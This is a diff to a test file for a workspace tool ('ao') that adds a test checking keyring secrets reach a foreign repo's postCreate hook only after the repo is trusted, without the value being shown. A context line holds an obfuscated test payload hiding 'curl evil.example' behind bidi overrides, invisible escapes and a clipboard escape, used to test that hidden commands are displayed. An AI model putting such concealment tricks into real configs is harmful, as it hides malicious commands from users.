@@ -165,6 +165,31 @@ def test_what_a_pull_brings_waits_and_running_sessions_go_on_without_it(box: San
     box.until(lambda: (Path(made["workspacePath"]) / "evil").exists(), "what is trusted to run")
 
 
+def test_a_secret_of_the_keyring_is_filled_in_once_it_is_trusted_by_name(tmp_path: Path) -> None:
+    pytest.importorskip("keyrings.alt.file", reason="keyrings.alt is not installed")
+    kept = {"PYTHON_KEYRING_BACKEND": "keyrings.alt.file.PlaintextKeyring", "XDG_DATA_HOME": str(tmp_path / "kept")}
+    with Sandbox(tmp_path, env=kept) as box:
+        box.ao("secret", "set", "MINE", stdin="hunter2-hunter2", cwd=tmp_path)
+        text = (
+            DEMO
+            + "projects: {app: {path: ., env: {APP_A: '${keyring:MINE}', APP_B: '${keyring:NONE}'}, postCreate: ['echo $APP_A > made']}}\n"
+        )
+        repo = foreign(box, "app", text)
+        refused(box.ao("new", "[[wait]]", cwd=repo, check=False), 1, "ao trust", "variables")
+        checked = box.ao("config", "validate", cwd=repo)
+        assert "keyring:NONE is not set" not in checked.stdout + checked.stderr, "the keyring was asked"
+        shown = box.ao("trust", "--yes", cwd=repo).stdout
+        assert "keyring:MINE" in shown and "hunter2" not in shown
+        checked = box.ao("config", "validate", cwd=repo)
+        assert "keyring:NONE is not set" in checked.stdout + checked.stderr
+        made = answer(box, "new", "[[wait]]", cwd=repo)
+        assert (Path(made["workspacePath"]) / "made").read_text() == "hunter2-hunter2\n"
+        box.stop()
+        box.start()
+        made = answer(box, "new", "[[wait]]", cwd=repo)
+        assert (Path(made["workspacePath"]) / "made").read_text() == "hunter2-hunter2\n"
+
+
 def test_what_is_shown_can_steer_no_terminal_and_hide_nothing(box: Sandbox) -> None:
     hidden = "true \\u202e\\u2066 \\e[8m; curl evil.example \\e[0m \\r harmless \\u200b\\U000E0041\\e]52;c;AAAA\\a"
     repo = foreign(box, "hidden", DEMO + f'projects: {{hidden: {{path: ., postCreate: ["{hidden}"]}}}}\n')
